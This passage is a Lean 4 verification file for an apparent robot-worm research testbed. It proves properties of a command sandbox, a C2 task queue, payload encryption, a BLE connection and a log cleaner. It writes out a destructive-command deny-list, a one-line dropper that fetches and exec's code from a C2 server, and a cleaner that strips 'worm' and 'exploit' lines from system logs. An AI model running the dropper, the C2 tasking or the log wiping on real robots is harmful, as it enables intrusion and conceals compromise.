import Mathlib

/-!
Verification development for the `uniroam` robot-security research testbed.

Shallow embedding of the Python sources into Lean 4:
* bytes are modelled as `Nat` (values 0..255 where relevant), byte strings as `List Nat`;
* Python `str` values are modelled as Lean `String` / `List Char`;
* Python substring containment (`needle in hay`) is modelled by `containsSub`;
* stateful objects (the command sandbox, the C2 task database, the virtual BLE
  connection, the device simulator) are modelled by explicit state passing;
* external library primitives (the AES block cipher, the subprocess backend)
  are abstracted as function parameters, with their contracts as hypotheses.
-/

/-- ASCII lowering of one character; together with `py_lower` this models
Python's `str.lower()` on the ASCII range (all strings the sources compare
case-insensitively are ASCII). -/
def py_char_lower (c : Char) : Char :=
  if 'A' ≤ c && c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

/-- Python `s.lower()` on the character list of `s` (ASCII case folding). -/
def py_lower (cs : List Char) : List Char := cs.map py_char_lower

/-- Python substring matching at the head: `matchesAt needle hay` is true when
`hay` starts with `needle` (character-wise equality). -/
def matchesAt : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && matchesAt as bs

/-- Python `needle in hay` substring containment on character lists. -/
def containsSub (needle : List Char) : List Char → Bool
  | [] => needle.isEmpty
  | c :: t => matchesAt needle (c :: t) || containsSub needle t

theorem matchesAt_self_append (n r : List Char) : matchesAt n (n ++ r) = true := by
  induction n with
  | nil => rfl
  | cons a as ih => simp [matchesAt, ih]

/-- If the needle occurs literally between two contexts, `containsSub` finds it. -/
theorem containsSub_of_append (u x y : List Char) :
    containsSub u (x ++ u ++ y) = true := by
  induction x with
  | nil =>
    cases u with
    | nil => cases y <;> simp [containsSub, matchesAt]
    | cons a as =>
      have h := matchesAt_self_append (a :: as) y
      rw [List.cons_append] at h
      simp [containsSub, h]
  | cons c cs ih =>
    have hstep : containsSub u ((c :: cs) ++ u ++ y)
        = (matchesAt u ((c :: cs) ++ u ++ y) || containsSub u (cs ++ u ++ y)) := by
      simp [containsSub]
    rw [hstep, ih, Bool.or_true]

/-! ## `command_sandbox.py` — the deny-listed command executor -/

namespace CommandSandbox

/-- Result record of one command execution (`{stdout, stderr, exit_code}`). -/
structure CmdResult where
  stdout : String
  stderr : String
  exit_code : Int
deriving DecidableEq, Repr

/-- One entry of the in-memory `command_history` list. -/
structure HistoryEntry where
  command : String
  exit_code : Int
  output : String
deriving DecidableEq, Repr

/-- The mutable pieces of a `CommandSandbox` instance that `execute` touches:
the in-memory history and the lines appended to the execution log file. -/
structure SandboxState where
  robot_id : String
  command_history : List HistoryEntry
  log_lines : List String
deriving DecidableEq, Repr

/-- Exception raised on a deny-list hit (`class SecurityError(Exception)`).
The spec's error taxonomy names this kind "SecurityPolicyViolation". -/
structure SecurityError where
  msg : String
deriving DecidableEq, Repr

/-- The fixed deny-list (`CommandSandbox.BLACKLIST`). -/
def BLACKLIST : List String :=
  ["rm -rf /",
   "rm -rf /*",
   "mkfs",
   "dd if=/dev/zero",
   "dd if=/dev/random",
   ":()\x7b :|:& \x7d;:",
   "> /dev/sda",
   "mv / /dev/null",
   "wget http",
   "curl http"]

/-- `CommandSandbox._is_dangerous`: case-insensitive substring match of every
deny-list entry against the command. -/
def is_dangerous (command : String) : Bool :=
  BLACKLIST.any (fun danger => containsSub (py_lower danger.data) (py_lower command.data))

/-- The log line written by `CommandSandbox._log_execution`. -/
def log_entry (robot_id command : String) (exit_code : Int) : String :=
  "[" ++ robot_id ++ "] CMD: " ++ command ++ " | EXIT: " ++ toString exit_code ++ "\n"

/-- `CommandSandbox.execute`: deny-list check first; on a hit, raise
`SecurityError` before any backend dispatch or logging; otherwise run the
configured backend (abstracted as `backend`) and log the execution.  The
returned state is unchanged on the error path. -/
def execute (backend : String → CmdResult) (st : SandboxState) (command : String) :
    Except SecurityError CmdResult × SandboxState :=
  if is_dangerous command then
    (Except.error ⟨"Blocked dangerous command: " ++ command⟩, st)
  else
    let result := backend command
    (Except.ok result,
     { st with
       command_history :=
         st.command_history ++ [⟨command, result.exit_code, String.mk (result.stdout.data.take 500)⟩],
       log_lines := st.log_lines ++ [log_entry st.robot_id command result.exit_code] })

end CommandSandbox

/-! ## `robot_simulator.py` — response frame construction -/

namespace RobotSimulator

/-- Python `(-s) & 0xFF` on the `Nat` byte sum `s`. -/
def py_neg_mask (s : Nat) : Nat := ((-(s : Int)) % 256).toNat

/-- `UnitreeSimulator._create_response`, plaintext part: builds the frame
`[0x51, len(data)+3, instruction, ...data, checksum]` (encryption of the frame
happens in the external `exploit_lib` codec and is outside this model). -/
def create_response (instruction : Nat) (data : List Nat) : List Nat :=
  let response_data := [0x51, data.length + 3, instruction] ++ data
  response_data ++ [py_neg_mask response_data.sum]

end RobotSimulator

/-- C4: every response frame built by the simulator has the shape
`[0x51, len(data)+3, instruction, ...data, checksum]`, its trailing byte is
`(-sum(preceding bytes)) & 0xFF`, and the sum of the whole frame is divisible
by 256. -/
theorem c4_response_checksum (instruction : Nat) (data : List Nat) :
    RobotSimulator.create_response instruction data =
      [0x51, data.length + 3, instruction] ++ data ++
        [RobotSimulator.py_neg_mask (([0x51, data.length + 3, instruction] ++ data).sum)]
    ∧ (RobotSimulator.create_response instruction data).sum % 256 = 0 := by
  constructor
  · simp [RobotSimulator.create_response]
  · simp only [RobotSimulator.create_response, RobotSimulator.py_neg_mask,
      List.sum_append, List.sum_cons, List.sum_nil]
    omega

/-- C3: a command matching the deny-list (case-insensitively) makes `execute`
fail with the `SecurityError` policy violation, with no backend dispatch and no
new history or log entry (the sandbox state is returned unchanged); any other
command is dispatched to the configured backend, and both the history and the
execution log gain exactly one entry for it. -/
theorem c3_denylist_blocks (backend : String → CommandSandbox.CmdResult)
    (st : CommandSandbox.SandboxState) (c : String) :
    (CommandSandbox.is_dangerous c = true →
      CommandSandbox.execute backend st c =
        (Except.error ⟨"Blocked dangerous command: " ++ c⟩, st))
    ∧ (CommandSandbox.is_dangerous c = false →
      CommandSandbox.execute backend st c =
        (Except.ok (backend c),
         { st with
           command_history := st.command_history ++
             [⟨c, (backend c).exit_code, String.mk ((backend c).stdout.data.take 500)⟩],
           log_lines := st.log_lines ++
             [CommandSandbox.log_entry st.robot_id c (backend c).exit_code] })) := by
  constructor <;> intro h <;> simp [CommandSandbox.execute, h]

/-- Witness for C3 at the concrete inputs of the spec's test property:
`"rm -rf /"` is deny-listed and blocked with the state unchanged, while
`"echo hello"` is dispatched to the backend. -/
theorem c3_denylist_blocks_witness :
    CommandSandbox.is_dangerous "rm -rf /" = true
    ∧ CommandSandbox.execute (fun _ => ⟨"hello\n", "", 0⟩) ⟨"TEST_001", [], []⟩ "rm -rf /"
        = (Except.error ⟨"Blocked dangerous command: rm -rf /"⟩, ⟨"TEST_001", [], []⟩)
    ∧ CommandSandbox.is_dangerous "echo hello" = false
    ∧ CommandSandbox.execute (fun _ => ⟨"hello\n", "", 0⟩) ⟨"TEST_001", [], []⟩ "echo hello"
        = (Except.ok ⟨"hello\n", "", 0⟩,
           ⟨"TEST_001", [⟨"echo hello", 0, "hello\n"⟩],
            [CommandSandbox.log_entry "TEST_001" "echo hello" 0]⟩) := by
  refine ⟨by decide, ?_, by decide, ?_⟩
  · exact (c3_denylist_blocks (fun _ => ⟨"hello\n", "", 0⟩) ⟨"TEST_001", [], []⟩ "rm -rf /").1
      (by decide)
  · have h := (c3_denylist_blocks (fun _ => ⟨"hello\n", "", 0⟩) ⟨"TEST_001", [], []⟩ "echo hello").2
      (by decide)
    simpa [CommandSandbox.log_entry] using h

/-! ## `uniroam/payload_builder.py` — Stage-0 dropper -/

namespace Stage0Builder

/-- `Stage0Builder.build_dropper`: the minimal one-line dropper command, an
f-string interpolating the C2 URL and robot id verbatim (the template carries
a trailing space from the triple-quoted source literal). -/
def build_dropper (c2_url robot_id : String) : String :=
  "python3 -c \"import urllib.request as u,base64 as b;exec(u.urlopen('" ++ c2_url ++
    "/api/v1/payload/stage1?id=" ++ robot_id ++ "').read())\" "

end Stage0Builder

/-- The dropper is the five-way concatenation of the fixed template pieces and
the two interpolated arguments. -/
theorem build_dropper_data (c2_url robot_id : String) :
    (Stage0Builder.build_dropper c2_url robot_id).data =
      "python3 -c \"import urllib.request as u,base64 as b;exec(u.urlopen('".data ++
        (c2_url.data ++ ("/api/v1/payload/stage1?id=".data ++
          (robot_id.data ++ "').read())\" ".data))) := by
  simp [Stage0Builder.build_dropper, String.data_append]

/-- The dropper's length is the argument lengths plus the 105 template bytes. -/
theorem build_dropper_length (c2_url robot_id : String) :
    (Stage0Builder.build_dropper c2_url robot_id).length =
      c2_url.length + robot_id.length + 105 := by
  have h1 : ("python3 -c \"import urllib.request as u,base64 as b;exec(u.urlopen('" :
      String).length = 67 := by rfl
  have h2 : ("/api/v1/payload/stage1?id=" : String).length = 26 := by rfl
  have h3 : ("').read())\" " : String).length = 12 := by rfl
  simp [Stage0Builder.build_dropper, String.length_append, h1, h2, h3]
  omega

/-- C9, counterexample: the claim "for every URL the dropper output is under
500 bytes" fails for a 500-character URL (with the default robot id
`"unknown"`), where the output is 612 characters long. -/
theorem c9_counterexample :
    ¬ ((Stage0Builder.build_dropper (String.mk (List.replicate 500 'a')) "unknown").length < 500
       ∧ containsSub (String.mk (List.replicate 500 'a')).data
           (Stage0Builder.build_dropper (String.mk (List.replicate 500 'a')) "unknown").data
         = true) := by
  intro h
  have hlen := h.1
  rw [build_dropper_length, String.length_mk, List.length_replicate] at hlen
  have h7 : ("unknown" : String).length = 7 := rfl
  rw [h7] at hlen
  omega

/-- C9 (amended): the dropper always contains the literal URL as a substring,
and its length is exactly `len(url) + len(robot_id) + 105`; in particular it is
strictly under 500 bytes precisely when the URL and robot id together are
shorter than 395 characters. -/
theorem c9_dropper_amended (c2_url robot_id : String) :
    containsSub c2_url.data (Stage0Builder.build_dropper c2_url robot_id).data = true
    ∧ (Stage0Builder.build_dropper c2_url robot_id).length =
        c2_url.length + robot_id.length + 105
    ∧ ((Stage0Builder.build_dropper c2_url robot_id).length < 500 ↔
        c2_url.length + robot_id.length < 395) := by
  refine ⟨?_, build_dropper_length c2_url robot_id, ?_⟩
  · have h := containsSub_of_append c2_url.data
      ("python3 -c \"import urllib.request as u,base64 as b;exec(u.urlopen('" : String).data
      (("/api/v1/payload/stage1?id=" : String).data ++
        (robot_id.data ++ ("').read())\" " : String).data))
    rw [build_dropper_data]
    simpa [List.append_assoc] using h
  · rw [build_dropper_length]
    omega

/-! ## `uniroam/payload_builder.py` — `PayloadEncryption`

The AES-CBC block cipher itself comes from the external `Cryptodome` library;
it is abstracted here as a pair of functions `enc` (encryption under the key
and a given IV) and `dec` (decryption given the IV), with the library's
round-trip contract as a hypothesis.  The fresh random IV of `encrypt_payload`
is passed in explicitly. -/

namespace PayloadEncryption

/-- Python `xs[:-k]` for `k ≥ 0` (for `k = 0` Python yields the empty slice). -/
def py_drop_from_end (xs : List Nat) (k : Nat) : List Nat :=
  if k = 0 then [] else xs.take (xs.length - k)

/-- `PayloadEncryption.encrypt_payload`: pad with `n` copies of byte `n`
(`n = 16 - len(payload) % 16`), encrypt, and prepend the IV. -/
def encrypt_payload (enc : List Nat → List Nat) (iv payload : List Nat) : List Nat :=
  let padding_length := 16 - payload.length % 16
  iv ++ enc (payload ++ List.replicate padding_length padding_length)

/-- `PayloadEncryption.decrypt_payload`: split off the 16-byte IV, decrypt,
and drop the number of trailing bytes named by the final byte.  (On an empty
decryption Python would raise an `IndexError`; that case is unreachable from
`encrypt_payload` output and modelled as the empty result.) -/
def decrypt_payload (dec : List Nat → List Nat → List Nat)
    (encrypted_payload : List Nat) : List Nat :=
  let iv := encrypted_payload.take 16
  let encrypted := encrypted_payload.drop 16
  let decrypted := dec iv encrypted
  py_drop_from_end decrypted (decrypted.getLastD 0)

end PayloadEncryption

/-- C6: for every byte string and every cipher pair satisfying the AES-CBC
library contract (`dec iv` inverts `enc` and the IV is 16 bytes),
`decrypt_payload ∘ encrypt_payload` is the identity — including the empty
string and exact multiples of 16, since the pad length `16 - len % 16` always
lies in `1..16` — and the ciphertext layout is `IV || enc(padded payload)`. -/
theorem c6_payload_roundtrip (enc : List Nat → List Nat)
    (dec : List Nat → List Nat → List Nat) (iv payload : List Nat)
    (hiv : iv.length = 16) (hinv : ∀ x, dec iv (enc x) = x) :
    (1 ≤ 16 - payload.length % 16 ∧ 16 - payload.length % 16 ≤ 16)
    ∧ PayloadEncryption.encrypt_payload enc iv payload =
        iv ++ enc (payload ++ List.replicate (16 - payload.length % 16)
          (16 - payload.length % 16))
    ∧ PayloadEncryption.decrypt_payload dec
        (PayloadEncryption.encrypt_payload enc iv payload) = payload := by
  have hn : 1 ≤ 16 - payload.length % 16 ∧ 16 - payload.length % 16 ≤ 16 := by
    have := Nat.mod_lt payload.length (y := 16) (by omega)
    omega
  refine ⟨hn, rfl, ?_⟩
  set n := 16 - payload.length % 16 with hn_def
  have hpad : payload ++ List.replicate n n =
      (payload ++ List.replicate (n - 1) n) ++ [n] := by
    have : n = (n - 1) + 1 := by omega
    rw [this, List.replicate_succ']
    simp [List.append_assoc]
  unfold PayloadEncryption.decrypt_payload PayloadEncryption.encrypt_payload
  simp only
  rw [← hiv, List.take_left, List.drop_left, hiv]
  rw [hinv]
  rw [hpad, List.getLastD_concat]
  unfold PayloadEncryption.py_drop_from_end
  have hne : ¬ (n = 0) := by omega
  rw [if_neg hne]
  have hlen : ((payload ++ List.replicate (n - 1) n) ++ [n]).length - n = payload.length := by
    simp [List.length_append, List.length_replicate]
    omega
  rw [hlen, ← hpad]
  exact List.take_left payload (List.replicate n n)

/-- Witness for C6: identity cipher, all-zero IV, payload `[1,2,3]`. -/
theorem c6_payload_roundtrip_witness :
    (List.replicate 16 (0 : Nat)).length = 16
    ∧ PayloadEncryption.decrypt_payload (fun _ x => x)
        (PayloadEncryption.encrypt_payload id (List.replicate 16 0) [1, 2, 3]) = [1, 2, 3] :=
  ⟨by decide,
   (c6_payload_roundtrip id (fun _ x => x) (List.replicate 16 0) [1, 2, 3]
      (by decide) (fun _ => rfl)).2.2⟩

/-! ## `uniroam/c2_server.py` — `C2Database` task queue

The SQLite `tasks` table is modelled as a list of rows; `created_at`
timestamps are modelled as naturals (the ISO strings the code stores compare
chronologically), and the random `secrets.token_hex(8)` ids and
`datetime.now()` values are passed in explicitly.  `params`/`result` strings
stand for the `json.dumps` serialisations the code stores. -/

namespace C2Database

/-- One row of the `tasks` table. -/
structure TaskRow where
  id : String
  robot_id : String
  task_type : String
  params : String
  created_at : Nat
  status : String
  result : Option String
  completed_at : Option Nat
deriving DecidableEq, Repr

/-- One `{'id', 'type', 'params'}` dict returned by `get_pending_tasks`. -/
structure TaskInfo where
  id : String
  type : String
  params : String
deriving DecidableEq, Repr

/-- The `WHERE robot_id = ? AND status = 'pending'` condition. -/
def is_pending_for (r : String) (t : TaskRow) : Bool :=
  t.robot_id == r && t.status == "pending"

/-- The `ORDER BY created_at ASC` ordering. -/
def byCreated (a b : TaskRow) : Prop := a.created_at ≤ b.created_at

instance : DecidableRel byCreated := fun a b => Nat.decLe a.created_at b.created_at

instance : IsTotal TaskRow byCreated := ⟨fun a b => Nat.le_total a.created_at b.created_at⟩

instance : IsTrans TaskRow byCreated := ⟨fun _ _ _ => Nat.le_trans⟩

/-- `SELECT ... ORDER BY created_at ASC`, modelled by a stable sort. -/
def order_by_created (l : List TaskRow) : List TaskRow := l.insertionSort byCreated

/-- `C2Database.create_task`: insert one row with `status = 'pending'`. -/
def create_task (db : List TaskRow) (robot_id task_type params task_id : String)
    (now : Nat) : List TaskRow :=
  db ++ [⟨task_id, robot_id, task_type, params, now, "pending", none, none⟩]

/-- `C2Database.get_pending_tasks`: select the pending tasks of the robot in
`created_at` order, then mark every pending task of that robot `sent`;
returns the selected `{id, type, params}` dicts and the updated table. -/
def get_pending_tasks (db : List TaskRow) (robot_id : String) :
    List TaskInfo × List TaskRow :=
  let pending := db.filter (is_pending_for robot_id)
  let tasks := (order_by_created pending).map (fun t => ⟨t.id, t.task_type, t.params⟩)
  let db2 := db.map (fun t =>
    if is_pending_for robot_id t then { t with status := "sent" } else t)
  (tasks, db2)

/-- `C2Database.update_task_result`: set `status = 'completed'`, store the
result, and set `completed_at` on the row(s) with the given id. -/
def update_task_result (db : List TaskRow) (task_id result : String)
    (now : Nat) : List TaskRow :=
  db.map (fun t =>
    if t.id == task_id then
      { t with status := "completed", result := some result, completed_at := some now }
    else t)

/-- `send_command` operator endpoint: `robot_id` defaults to the wildcard
`"*"` and a single `EXECUTE_CMD` task row is created for it (no expansion
into one task per known robot). -/
def send_command (db : List TaskRow) (command task_id : String) (now : Nat) :
    List TaskRow :=
  create_task db "*" "EXECUTE_CMD" command task_id now

end C2Database

/-- After the `UPDATE tasks SET status = 'sent'` step, no task of the robot is
still pending. -/
theorem mark_sent_no_pending (db : List C2Database.TaskRow) (r : String) :
    ((C2Database.get_pending_tasks db r).2.filter (C2Database.is_pending_for r)) = [] := by
  rw [List.filter_eq_nil_iff]
  intro t ht
  rcases List.mem_map.mp ht with ⟨u, _, rfl⟩
  by_cases h : C2Database.is_pending_for r u = true
  · rw [if_pos h]
    simp [C2Database.is_pending_for]
  · rw [if_neg h]
    exact h

/-- If a table has no pending task for the robot, `get_pending_tasks` returns
the empty list. -/
theorem get_pending_tasks_fst_of_no_pending (db : List C2Database.TaskRow) (r : String)
    (h : db.filter (C2Database.is_pending_for r) = []) :
    (C2Database.get_pending_tasks db r).1 = [] := by
  unfold C2Database.get_pending_tasks
  simp only
  rw [h]
  rfl

/-- C1: `create_task` inserts a single row with status `'pending'`;
`get_pending_tasks(r)` returns exactly the pending tasks of `r` (one
`{id, type, params}` dict each) in `created_at`-ascending order and in the same
call marks every pending task of `r` as `'sent'`, so an immediately following
`get_pending_tasks(r)` returns the empty list; `update_task_result` sets the
task's status to `'completed'`, stores the submitted result verbatim, and sets
`completed_at`. -/
theorem c1_task_lifecycle (db : List C2Database.TaskRow)
    (r ty pr tid res : String) (now later : Nat) :
    C2Database.create_task db r ty pr tid now =
      db ++ [⟨tid, r, ty, pr, now, "pending", none, none⟩]
    ∧ (C2Database.get_pending_tasks db r).1 =
        (C2Database.order_by_created (db.filter (C2Database.is_pending_for r))).map
          (fun t => ⟨t.id, t.task_type, t.params⟩)
    ∧ (C2Database.order_by_created (db.filter (C2Database.is_pending_for r))).Pairwise
        C2Database.byCreated
    ∧ (C2Database.order_by_created (db.filter (C2Database.is_pending_for r))).Perm
        (db.filter (C2Database.is_pending_for r))
    ∧ ((C2Database.get_pending_tasks db r).2.filter (C2Database.is_pending_for r)) = []
    ∧ (C2Database.get_pending_tasks (C2Database.get_pending_tasks db r).2 r).1 = []
    ∧ C2Database.update_task_result db tid res later =
        db.map (fun t =>
          if t.id == tid then
            { t with status := "completed", result := some res, completed_at := some later }
          else t) := by
  refine ⟨rfl, rfl, ?_, ?_, mark_sent_no_pending db r,
    get_pending_tasks_fst_of_no_pending _ r (mark_sent_no_pending db r), rfl⟩
  · unfold C2Database.order_by_created
    exact List.sorted_insertionSort _ _
  · unfold C2Database.order_by_created
    exact List.perm_insertionSort _ _

/-- C10: a task created through the operator command endpoint with its default
robot id is stored as one single row whose `robot_id` is the literal `"*"`,
and `get_pending_tasks(r)` for any real robot id `r ≠ "*"` never returns it
(given a fresh task id), so the defaulted broadcast command is never
delivered. -/
theorem c10_wildcard_command (db : List C2Database.TaskRow)
    (command tid r : String) (now : Nat)
    (hr : r ≠ "*") (hfresh : db.filter (fun t => t.id == tid) = []) :
    C2Database.send_command db command tid now =
      db ++ [⟨tid, "*", "EXECUTE_CMD", command, now, "pending", none, none⟩]
    ∧ (C2Database.send_command db command tid now).length = db.length + 1
    ∧ ((C2Database.get_pending_tasks (C2Database.send_command db command tid now) r).1.filter
        (fun ti => ti.id == tid)) = [] := by
  refine ⟨rfl, by simp [C2Database.send_command, C2Database.create_task], ?_⟩
  have hfr : ∀ t ∈ db, (t.id == tid) = false := by
    intro t htm
    have h := List.filter_eq_nil_iff.mp hfresh t htm
    simpa using h
  rw [List.filter_eq_nil_iff]
  intro ti hti
  simp only [C2Database.get_pending_tasks] at hti
  rcases List.mem_map.mp hti with ⟨u, hu, rfl⟩
  have hu2 : u ∈ (C2Database.send_command db command tid now).filter
      (C2Database.is_pending_for r) := by
    unfold C2Database.order_by_created at hu
    exact (List.mem_insertionSort _).mp hu
  have hu3 := List.mem_filter.mp hu2
  rcases List.mem_append.mp hu3.1 with hdb | hnew
  · simp [hfr u hdb]
  · have hup : u = ⟨tid, "*", "EXECUTE_CMD", command, now, "pending", none, none⟩ := by
      simpa using hnew
    have hpend := hu3.2
    rw [hup] at hpend
    unfold C2Database.is_pending_for at hpend
    simp only [Bool.and_eq_true, beq_iff_eq] at hpend
    exact absurd hpend.1.symm hr

/-- Witness for C10: an empty table, the defaulted wildcard command, and the
robot `SIM_001`. -/
theorem c10_wildcard_command_witness :
    ("SIM_001" : String) ≠ "*"
    ∧ (List.filter (fun t => t.id == "t0") ([] : List C2Database.TaskRow)) = []
    ∧ C2Database.send_command [] "whoami" "t0" 0 =
        [] ++ [⟨"t0", "*", "EXECUTE_CMD", "whoami", 0, "pending", none, none⟩]
    ∧ ((C2Database.get_pending_tasks (C2Database.send_command [] "whoami" "t0" 0)
          "SIM_001").1.filter (fun ti => ti.id == "t0")) = [] := by
  have h := c10_wildcard_command [] "whoami" "t0" "SIM_001" 0 (by decide) rfl
  exact ⟨by decide, rfl, h.1, h.2.2⟩

/-! ## `virtual_ble.py` — `VirtualBLEConnection`

The device's characteristic buffers are a function from UUID to bytes; the
registered notification callbacks are opaque ids.  Forwarding of a write on the
protocol write characteristic into the owning simulator's packet handler is the
simulator model below; the connection-level claims concern only the
connected-flag gating and the device-state effects modelled here. -/

namespace VirtualBLE

/-- `VirtualBLEDevice` state. -/
structure VirtualBLEDevice where
  name : String
  characteristics : String → List Nat
  notification_callbacks : List Nat
  connected : Bool

/-- `VirtualBLEDevice.write_characteristic`: store the written bytes. -/
def write_characteristic (dev : VirtualBLEDevice) (uuid : String) (data : List Nat) :
    VirtualBLEDevice :=
  { dev with characteristics := fun u => if u == uuid then data else dev.characteristics u }

/-- `VirtualBLEDevice.read_characteristic` (`.get(uuid, bytearray())`). -/
def read_characteristic (dev : VirtualBLEDevice) (uuid : String) : List Nat :=
  dev.characteristics uuid

/-- `VirtualBLEDevice.start_notify`: append the callback. -/
def device_start_notify (dev : VirtualBLEDevice) (cb : Nat) : VirtualBLEDevice :=
  { dev with notification_callbacks := dev.notification_callbacks ++ [cb] }

/-- `VirtualBLEDevice.stop_notify`: clear all callbacks. -/
def device_stop_notify (dev : VirtualBLEDevice) : VirtualBLEDevice :=
  { dev with notification_callbacks := [] }

/-- `VirtualBLEConnection` wraps a device plus its own `is_connected` flag. -/
structure VirtualBLEConnection where
  device : VirtualBLEDevice
  is_connected : Bool

/-- `raise RuntimeError("Not connected")`. -/
inductive BLEError where
  | runtimeError (msg : String)
deriving DecidableEq, Repr

/-- `VirtualBLEConnection.connect`. -/
def connect (c : VirtualBLEConnection) : VirtualBLEConnection :=
  { device := { c.device with connected := true }, is_connected := true }

/-- `VirtualBLEConnection.disconnect`. -/
def disconnect (c : VirtualBLEConnection) : VirtualBLEConnection :=
  { device := { c.device with connected := false }, is_connected := false }

/-- `VirtualBLEConnection.write_gatt_char`: gated on `is_connected`. -/
def write_gatt_char (c : VirtualBLEConnection) (uuid : String) (data : List Nat) :
    Except BLEError VirtualBLEConnection :=
  if ¬ c.is_connected then Except.error (BLEError.runtimeError "Not connected")
  else Except.ok { c with device := write_characteristic c.device uuid data }

/-- `VirtualBLEConnection.read_gatt_char`: gated on `is_connected`. -/
def read_gatt_char (c : VirtualBLEConnection) (uuid : String) :
    Except BLEError (List Nat) :=
  if ¬ c.is_connected then Except.error (BLEError.runtimeError "Not connected")
  else Except.ok (read_characteristic c.device uuid)

/-- `VirtualBLEConnection.start_notify`: gated on `is_connected`. -/
def start_notify (c : VirtualBLEConnection) (uuid : String) (cb : Nat) :
    Except BLEError VirtualBLEConnection :=
  if ¬ c.is_connected then Except.error (BLEError.runtimeError "Not connected")
  else Except.ok { c with device := device_start_notify c.device cb }

/-- `VirtualBLEConnection.stop_notify`: performs NO connection check in the
source — it goes straight to the device and clears the callbacks. -/
def stop_notify (c : VirtualBLEConnection) (uuid : String) :
    Except BLEError VirtualBLEConnection :=
  Except.ok { c with device := device_stop_notify c.device }

end VirtualBLE

/-- A never-connected connection to a device with one registered callback. -/
def c7_conn0 : VirtualBLE.VirtualBLEConnection :=
  ⟨⟨"Go2_SIM_001", fun _ => [], [7], false⟩, false⟩

/-- C7, counterexample: `stop_notify` invoked before `connect()` does NOT fail
with the "Not connected" error — it succeeds and acts on the underlying device,
clearing its registered notification callbacks. -/
theorem c7_counterexample :
    c7_conn0.is_connected = false
    ∧ VirtualBLE.stop_notify c7_conn0 "00002a05-0000-1000-8000-00805f9b34fb" =
        Except.ok ⟨⟨"Go2_SIM_001", fun _ => [], [], false⟩, false⟩
    ∧ c7_conn0.device.notification_callbacks = [7] :=
  ⟨rfl, rfl, rfl⟩

/-- C7 (amended): on a connection that is not connected (before `connect()` or
after `disconnect()`, which clears the flag), characteristic write,
characteristic read and notification start all fail with the "Not connected"
error and leave the device untouched; notification stop is the one exception:
it performs no connection check and clears the device's callbacks. -/
theorem c7_notconnected_amended (c : VirtualBLE.VirtualBLEConnection)
    (uuid : String) (data : List Nat) (cb : Nat) (h : c.is_connected = false) :
    VirtualBLE.write_gatt_char c uuid data =
      Except.error (VirtualBLE.BLEError.runtimeError "Not connected")
    ∧ VirtualBLE.read_gatt_char c uuid =
        Except.error (VirtualBLE.BLEError.runtimeError "Not connected")
    ∧ VirtualBLE.start_notify c uuid cb =
        Except.error (VirtualBLE.BLEError.runtimeError "Not connected")
    ∧ VirtualBLE.stop_notify c uuid =
        Except.ok { c with device := VirtualBLE.device_stop_notify c.device }
    ∧ (VirtualBLE.disconnect c).is_connected = false := by
  refine ⟨?_, ?_, ?_, rfl, rfl⟩ <;>
    simp [VirtualBLE.write_gatt_char, VirtualBLE.read_gatt_char,
      VirtualBLE.start_notify, h]

/-- Witness for C7 (amended) at the concrete unconnected connection. -/
theorem c7_notconnected_amended_witness :
    c7_conn0.is_connected = false
    ∧ VirtualBLE.write_gatt_char c7_conn0 "ffe1" [0x52, 0x05, 0x01] =
        Except.error (VirtualBLE.BLEError.runtimeError "Not connected")
    ∧ VirtualBLE.read_gatt_char c7_conn0 "ffe1" =
        Except.error (VirtualBLE.BLEError.runtimeError "Not connected")
    ∧ VirtualBLE.start_notify c7_conn0 "ffe1" 5 =
        Except.error (VirtualBLE.BLEError.runtimeError "Not connected") := by
  have h := c7_notconnected_amended c7_conn0 "ffe1" [0x52, 0x05, 0x01] 5 rfl
  exact ⟨rfl, h.1, h.2.1, h.2.2.1⟩

/-! ## `uniroam/persistence.py` — `LogCleaner.clean_system_logs` -/

namespace LogCleaner

/-- The `suspicious_keywords` list, verbatim from the source — note the
upper-case `"BLE"` entry. -/
def suspicious_keywords : List String :=
  ["unitree", "worm", "exploit", "BLE", "infection"]

/-- The per-line test: `any(keyword in line.lower() for keyword in ...)`.
The keyword itself is NOT lowered. -/
def line_suspicious (line : String) : Bool :=
  suspicious_keywords.any (fun keyword => containsSub keyword.data (py_lower line.data))

/-- The rewrite of one log file's lines: keep exactly the non-matching lines. -/
def clean_lines (lines : List String) : List String :=
  lines.filter (fun line => ! line_suspicious line)

/-- `LogCleaner.clean_system_logs` over the configured target files, each
rewritten independently (file-system errors are outside this model). -/
def clean_system_logs (files : List (String × List String)) :
    List (String × List String) :=
  files.map (fun f => (f.1, clean_lines f.2))

end LogCleaner

/-- C8: the `"BLE"` keyword is dead code — the source compares the verbatim
(upper-case) keyword against the lowercased line, which can never match, so a
line containing the radio-protocol marker survives the cleaner, while the
claim (and spec) say every line case-insensitively containing a keyword is
removed.  Lines hitting the lower-case keywords are removed as claimed. -/
theorem c8_ble_keyword_dead :
    LogCleaner.line_suspicious "BLE scan started" = false
    ∧ LogCleaner.line_suspicious "ble exploit attempt" = true
    ∧ LogCleaner.clean_lines
        ["BLE scan started", "Unitree handshake ok", "normal boot message"] =
        ["BLE scan started", "normal boot message"]
    ∧ LogCleaner.clean_system_logs
        [("/var/log/syslog", ["BLE scan started", "worm spawned"])] =
        [("/var/log/syslog", ["BLE scan started"])] := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-! ## `robot_simulator.py` — packet handlers

`handle_ble_write` first decrypts the inbound packet through the external
`exploit_lib` codec; the handlers below work on the decrypted bytes, exactly
as the Python handlers do, and produce the plaintext response frame (which the
codec then encrypts).  Python `bytes.decode('utf-8', errors='ignore')` and
Python slice semantics are modelled byte-faithfully. -/

namespace RobotSimulator

/-- Python list/bytes slicing `xs[start:stop]` with negative-index handling. -/
def py_slice (xs : List Nat) (start stop : Int) : List Nat :=
  let n : Int := xs.length
  let s := if start < 0 then max (n + start) 0 else min start n
  let e := if stop < 0 then max (n + stop) 0 else min stop n
  (xs.drop s.toNat).take (e - s).toNat

/-- UTF-8 continuation byte. -/
def is_cont (b : Nat) : Bool := 0x80 ≤ b && b ≤ 0xBF

/-- Valid first continuation of a 3-byte sequence (excludes overlong forms and
surrogates, as CPython does). -/
def cont3_ok (lead c : Nat) : Bool :=
  if lead == 0xE0 then 0xA0 ≤ c && c ≤ 0xBF
  else if lead == 0xED then 0x80 ≤ c && c ≤ 0x9F
  else is_cont c

/-- Valid first continuation of a 4-byte sequence. -/
def cont4_ok (lead c : Nat) : Bool :=
  if lead == 0xF0 then 0x90 ≤ c && c ≤ 0xBF
  else if lead == 0xF4 then 0x80 ≤ c && c ≤ 0x8F
